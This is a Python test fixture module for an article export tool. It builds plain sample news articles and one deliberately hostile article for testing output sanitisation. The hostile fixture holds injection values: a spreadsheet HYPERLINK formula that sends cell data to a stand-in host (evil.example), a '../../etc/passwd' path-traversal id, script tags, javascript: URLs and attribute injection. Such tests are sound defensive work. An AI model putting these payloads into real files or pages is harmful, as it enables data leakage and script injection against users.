"""Articles to export: plain ones, and one that is hostile in every field."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from wireroom.model import (
    USES,
    Article,
    Condition,
    Evidence,
    Receipt,
    Signal,
    Use,
    Verdict,
    Word,
)
from wireroom.urls import article_id

NOW = datetime(2026, 5, 3, 12, 0, 0, 250_000, tzinfo=UTC)
COURIER = "courier.example"
LICENCE = "https://creativecommons.org/licenses/by/4.0/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def signal(use: Use, word: Word, *, url: str = "", family: str = "rsl", **more: Any) -> Signal:
    where = Evidence(url=url or f"https://{COURIER}/rsl.xml", line=4, excerpt="said so")
    return Signal(family=family, use=use, value=word, evidence=where, **more)


def receipt(word: Word = "allow", *, url: str = "", **words: Word) -> Receipt:
    """All uses under one word, or some of them (`ai_train="deny"`) under another."""
    verdicts = {use: words.get(use.replace("-", "_"), word) for use in USES}
    return Receipt(
        verdicts=tuple(
            Verdict(
                use=use,
                value=each,
                because=() if each == "unknown" else (signal(use, each, url=url),),
            )
            for use, each in verdicts.items()
        ),
        robots="allowed",
        licence_url=LICENCE,
        checked_at=NOW,
    )


def article(number: int = 1, domain: str = COURIER, **changes: Any) -> Article:
    url = f"https://{domain}/story-{number}"
    held = Article(
        id=article_id(domain, url),
        publisher=domain,
        url=url,
        canonical_url=url,
        feed_url=f"https://{domain}/rss",
        title=f"The harbour master resigns, part {number}",
        authors=("Ada Quill", "Zoë 清"),
        published_at=NOW - timedelta(minutes=number),
        published_source="json-ld datePublished",
        modified_at=NOW,
        fetched_at=NOW,
        language="en",
        language_tag="en-GB",
        tags=("harbour", "politics"),
        description="Thirty years at the quay.",
        image_url=f"https://{domain}/quay.jpg",
        text=f"After thirty years he goes home.\n\nShip {number} came in; naïve, Straße, 東京都.",
        text_hash="0" * 32,
        word_count=12,
        quality=0.875,
        paywall="free",
        sources={"title": "h1", "published_at": "json-ld datePublished"},
        extra={"section": "Harbour", "feed": {"comments": 3}},
        receipt=receipt(),
        cluster_id="c1",
        version=2,
    )
    return replace(held, **changes)


def bare() -> Article:
    """The least that an article can be."""
    return Article(id="0123456789abcdef", publisher="", url="", title="", fetched_at=NOW)


def hostile() -> Article:
    """An article whose every text wants to be something else."""
    return article(
        9,
        id="../../etc/passwd",
        title="../../..\\con\x00 </title><script>alert(1)</script> ---\n- x: &a *b",
        authors=("@SUM(A1)", "＝cmd", "a]]>b", "half \ud83d"),
        tags=("-1+1", "\u2028line", "\ufeffmark", '"], "x": ["'),
        description="\t=1+1",
        text=f"{FORMULA}\n\n---\n\n# no heading\n\n<b>no</b> \x1b[31m </content> \x0b\ufffe",
        url="javascript:alert(1)",
        canonical_url="",
        image_url="data:text/html,x",
        language_tag='en" onload="x',
        extra={"big": 2**80, "half": "\udc00", "odd": NOW},
        receipt=replace(
            receipt(),
            licence_url="javascript:alert(2)",
            verdicts=(
                Verdict(
                    use="ai-train",
                    value="paid",
                    conditions=(Condition(kind="payment", detail="=5 EUR\x07"),),
                ),
            ),
        ),
    )
